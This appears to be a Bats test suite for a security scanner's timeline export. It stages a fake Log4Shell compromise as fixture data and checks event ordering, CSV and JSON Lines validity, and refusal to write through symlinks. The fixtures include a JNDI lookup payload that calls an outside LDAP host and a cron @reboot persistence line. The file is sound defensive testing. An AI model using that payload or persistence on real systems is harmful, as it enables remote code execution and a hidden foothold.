#!/usr/bin/env bats
# timeline.bats - where it came in (issue 12): a planted root whose events
# are staged with set times - a vulnerable log4j-core jar (Dec 1), a
# Log4Shell attack in the access log from 203.0.113.5 (10:00), a file the
# user's hash IoC names under /tmp (10:01), the cron @reboot line that
# launches it (10:02) - is scanned with --timeline; the events come out
# in that order with those times, as CSV and as JSON Lines, and in the
# text summary.  Paths with any bytes keep the files valid; the file is
# never written over an existing file or through a symbolic link.

bats_require_minimum_version 1.5.0

load helpers
load ../attack/helpers

setup_file() {
    make_fixtures
    attack_setup_file
}

teardown() {
    if [ -n "${T:-}" ]; then
        attack_teardown
    fi
}

# plant DIR: the staged root, and DIR.hashes (the IoC list)
plant() {
    local r=$1
    mkdir -p "$r/var/log" "$r/tmp/.x" "$r/var/spool/cron/crontabs" \
        "$r/opt/app/lib"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$r/opt/app/lib/"
    printf '%s\n' \
        '203.0.113.5 - - [11/Dec/2021:10:00:00 +0000] "GET /?q=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1" 200 12 "-" "curl/7.68"' \
        '198.51.100.1 - - [11/Dec/2021:10:05:00 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/7.68"' \
        >"$r/var/log/access.log"
    printf 'payload %s\n' "$RANDOM$RANDOM" >"$r/tmp/.x/update"
    sha256sum "$r/tmp/.x/update" | cut -d' ' -f1 >"$r.hashes"
    printf '# m h dom mon dow command\n@reboot /tmp/.x/update >/dev/null 2>&1\n' \
        >"$r/var/spool/cron/crontabs/alice"
    touch -d '2021-12-01 08:00:00 UTC' "$r/opt/app/lib/log4j-core-2.14.1.jar"
    touch -d '2021-12-11 10:01:00 UTC' "$r/tmp/.x/update"
    touch -d '2021-12-11 10:02:00 UTC' "$r/var/spool/cron/crontabs/alice"
    touch -d '2021-12-11 10:06:00 UTC' "$r/var/log/access.log"
}

# scan_root DIR ARGS...: a host scan of the planted root
scan_root() {
    local r=$1
    shift
    k scan --iocs "$r.hashes" --root "$r" --log-path /var/log "$@"
}

# The staged events (before 2022: the file status changes and births of
# this run come after), as "time kind path-under-root rule client".
STAGED="2021-12-01T08:00:00.000Z modified /opt/app/lib/log4j-core-2.14.1.jar log4j.core.vulnerable -
2021-12-11T10:00:00.000Z log /var/log/access.log logs.attack.lookup 203.0.113.5
2021-12-11T10:01:00.000Z modified /tmp/.x/update ioc.sha256 -
2021-12-11T10:02:00.000Z modified /var/spool/cron/crontabs/alice persist.target_matched -"

@test "--timeline out.csv: the jar, the attack, the dropped file, the @reboot line, in order with their times" {
    R="$BATS_TEST_TMPDIR/root"
    plant "$R"
    run --separate-stderr scan_root "$R" --timeline "$BATS_TEST_TMPDIR/out.csv" --json
    [ "$status" -eq 1 ] || { echo "$stderr"; false; }
    got=$(python3 - "$BATS_TEST_TMPDIR/out.csv" "$R" <<'PY'
import csv, sys
path, root = sys.argv[1], sys.argv[2]
with open(path, newline='', encoding='utf-8') as f:
    rows = list(csv.reader(f))
assert rows[0] == ['time', 'kind', 'what', 'path', 'line', 'verdict',
                   'threat', 'rule', 'client', 'process'], rows[0]
times = [r[0] for r in rows[1:]]
assert times == sorted(times), times
for r in rows[1:]:
    if r[0] < '2022':
        # with --root, paths as the scanned system sees them
        p = r[3].split('!')[0]
        print(r[0], r[1], p, r[7], r[8] or '-')
PY
)
    [ "$got" = "$STAGED" ] || { echo "got:"; echo "$got"; false; }
    # the dropped file's status change is this run's, after the staging
    grep -q '^"20[2-9][0-9]-[0-9-]*T[0-9:.]*Z","changed",.*/tmp/\.x/update"' \
        "$BATS_TEST_TMPDIR/out.csv"
    # the JSON report has the file's times: ctime always, birth when the
    # file system keeps it
    printf '%s\n' "$output" | jqe -s 'map(select(.rule.id == "ioc.sha256"))[0] |
        .file.mtime == "2021-12-11T10:01:00.000Z" and
        (.file.ctime | test("^20[2-9][0-9]-"))'
    if [ "$(stat -c %W "$R/tmp/.x/update")" != 0 ]; then
        printf '%s\n' "$output" | jqe -s 'map(select(.rule.id == "ioc.sha256"))[0] |
            (.file.created | test("^20[2-9][0-9]-"))'
    fi
}

@test "--timeline out.jsonl: JSON Lines, one event a line, same order; the summary shows it around the attack" {
    R="$BATS_TEST_TMPDIR/root"
    plant "$R"
    TZ=UTC run --separate-stderr scan_root "$R" --timeline "$BATS_TEST_TMPDIR/out.jsonl"
    [ "$status" -eq 1 ] || { echo "$stderr"; false; }
    n=0
    while IFS= read -r line; do
        printf '%s\n' "$line" | jq -e 'type == "object" and has("@timestamp") and has("kind")' >/dev/null
        n=$((n + 1))
    done <"$BATS_TEST_TMPDIR/out.jsonl"
    [ "$n" -ge 4 ]
    got=$(jq -r 'select(."@timestamp" < "2022") |
        "\(."@timestamp") \(.kind) \(.path | split("!")[0]) \(.rule) \(.client // "-")"' \
        "$BATS_TEST_TMPDIR/out.jsonl")
    [ "$got" = "$STAGED" ] || { echo "got:"; echo "$got"; false; }
    jq -s -e 'map(select(.kind == "log"))[0] | .line == 1 and .verdict == "attack" and .threat == "log4shell"' \
        "$BATS_TEST_TMPDIR/out.jsonl" >/dev/null
    # the text summary: the first attack, then the file, then the cron line
    sum=$(printf '%s\n' "$output" | sed -n '/^== Timeline ==$/,/^$/p')
    [[ "$sum" == *"first attack in the logs: 2021-12-11T10:00:00Z from 203.0.113.5"* ]] || { echo "$output"; false; }
    rows=$(printf '%s\n' "$sum" | grep -E '^(>| ) 2021-' | sed 's/  */ /g' | cut -d' ' -f2-4)
    want="2021-12-01T08:00:00Z file modified
2021-12-11T10:00:00Z log line
2021-12-11T10:01:00Z file modified
2021-12-11T10:02:00Z file modified"
    [ "$rows" = "$want" ] || { echo "$sum"; false; }
    printf '%s\n' "$sum" | grep -q "^> 2021-12-11T10:00:00Z  log line .*access.log$"
    # in Japanese
    TZ=UTC run --separate-stderr scan_root "$R" --lang ja
    [[ "$output" == *"== タイムライン =="*"ログにある最初の攻撃：2021-12-11T10:00:00Z、攻撃元 203.0.113.5"*"ファイル更新"* ]]
}

@test "--timeline: a path with a newline, a comma, a quote and invalid UTF-8 keeps CSV and JSON Lines valid" {
    R="$BATS_TEST_TMPDIR/root"
    plant "$R"
    bad=$(printf 'tmp/we"ird,\nname\xff\xfe.bin')
    cp "$R/tmp/.x/update" "$R/$bad"
    touch -d '2021-12-11 10:03:00 UTC' "$R/$bad"
    run --separate-stderr scan_root "$R" --timeline "$BATS_TEST_TMPDIR/o.csv"
    [ "$status" -eq 1 ]
    run --separate-stderr scan_root "$R" --timeline "$BATS_TEST_TMPDIR/o.json"
    [ "$status" -eq 1 ]
    python3 - "$BATS_TEST_TMPDIR/o.csv" "$BATS_TEST_TMPDIR/o.json" <<'PY'
import csv, json, sys
with open(sys.argv[1], newline='', encoding='utf-8', errors='strict') as f:
    rows = list(csv.reader(f, strict=True))
assert all(len(r) == 10 for r in rows), rows
odd = [r for r in rows if 'we"ird,\nname' in r[3]]
assert odd and all(r[0] == '2021-12-11T10:03:00.000Z' for r in odd
                   if r[1] == 'modified'), odd
assert any(r[1] == 'modified' for r in odd)
with open(sys.argv[2], 'rb') as f:
    lines = f.read().split(b'\n')
assert lines[-1] == b''
recs = [json.loads(l.decode('utf-8', 'strict')) for l in lines[:-1]]
odd = [r for r in recs if 'we"ird,\nname' in r['path']]
assert any(r['kind'] == 'modified' and
           r['@timestamp'] == '2021-12-11T10:03:00.000Z' for r in odd), odd
assert len(recs) == len(rows) - 1
PY
}

@test "--timeline onto an existing file is refused (exit 2) and leaves it; - writes to standard output" {
    R="$BATS_TEST_TMPDIR/root"
    plant "$R"
    printf 'keep me\n' >"$BATS_TEST_TMPDIR/old.csv"
    run --separate-stderr scan_root "$R" --timeline "$BATS_TEST_TMPDIR/old.csv"
    [ "$status" -eq 2 ]
    [[ "$stderr" == *"cannot write $BATS_TEST_TMPDIR/old.csv: File exists"* ]] || { echo "$stderr"; false; }
    [ "$(cat "$BATS_TEST_TMPDIR/old.csv")" = "keep me" ]
    # control: a new name is written
    run --separate-stderr scan_root "$R" --timeline "$BATS_TEST_TMPDIR/new.csv"
    [ "$status" -eq 1 ]
    grep -q '"log",.*"203.0.113.5"' "$BATS_TEST_TMPDIR/new.csv"
    run --separate-stderr scan_root "$R" --quiet --csv --timeline -
    [ "$status" -eq 1 ]
    [[ "$output" == *'time,kind,what,path,line,verdict,threat,rule,client,process'*'"2021-12-11T10:00:00.000Z","log"'* ]]
}

@test "--running: the process holding the vulnerable jar gives a process start event after the jar's time" {
    J="$BATS_TEST_TMPDIR/held/log4j-core-2.14.1.jar"
    mkdir -p "${J%/*}"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$J"
    touch -d '2021-12-01 08:00:00 UTC' "$J"
    before=$(date -u +%s)
    python3 -c 'import sys, time; f = open(sys.argv[1], "rb"); time.sleep(60)' "$J" &
    P=$!
    sleep 1
    run --separate-stderr k scan --running --pid "$P" --timeline "$BATS_TEST_TMPDIR/p.jsonl"
    kill "$P"
    [ "$status" -eq 1 ] || { echo "$stderr"; false; }
    got=$(jq -r 'select(.kind == "modified" or .kind == "process") | "\(.kind) \(.process) \(.rule)"' \
        "$BATS_TEST_TMPDIR/p.jsonl")
    [ "$got" = "modified python3[$P] log4j.core.vulnerable
process python3[$P] log4j.core.vulnerable" ] || { cat "$BATS_TEST_TMPDIR/p.jsonl"; false; }
    jq -s -e --argjson b "$before" 'map(select(.kind == "process"))[0]."@timestamp" |
        sub("\\.[0-9]+Z$"; "Z") | fromdate | . >= $b - 1 and . <= $b + 5' \
        "$BATS_TEST_TMPDIR/p.jsonl" >/dev/null
}

@test "attack: --timeline through a symlink an unprivileged user planted is refused; the victim is untouched" {
    attack_setup
    R="$T/root"
    plant "$R"
    as_attacker ln -s "$V/shadow" "$A/timeline.csv"
    as_attacker ln -s "$V/created" "$A/dangling.csv"
    run --separate-stderr scan_root "$R" --timeline "$A/timeline.csv"
    [ "$status" -eq 2 ]
    [[ "$stderr" == *"cannot write $A/timeline.csv"* ]] || { echo "$stderr"; false; }
    run --separate-stderr scan_root "$R" --timeline "$A/dangling.csv"
    [ "$status" -eq 2 ]
    [[ "$stderr" == *"cannot write $A/dangling.csv"* ]]
    [ ! -e "$V/created" ]
    [ -L "$A/timeline.csv" ] && [ -L "$A/dangling.csv" ]
    assert_victim_intact
    # control: a new file in the same folder is written, owned by root
    run --separate-stderr scan_root "$R" --timeline "$A/fresh.csv"
    [ "$status" -eq 1 ]
    [ "$(stat -c %u "$A/fresh.csv")" = 0 ]
}
